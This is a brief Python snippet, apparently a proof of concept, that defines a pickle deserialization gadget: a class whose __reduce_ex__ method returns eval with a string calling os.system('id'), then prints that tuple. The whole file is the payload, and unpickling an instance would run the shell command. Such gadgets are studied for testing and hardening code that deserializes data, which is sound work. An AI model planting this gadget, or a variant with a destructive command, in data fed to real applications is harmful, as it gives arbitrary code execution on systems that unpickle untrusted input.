# __reduce_ex__ variant of the gadget, with eval as the callable.
class Payload:
    def __reduce_ex__(self, protocol):
        return (eval, ("__import__('os').system('id')",))


print(Payload().__reduce_ex__(2))
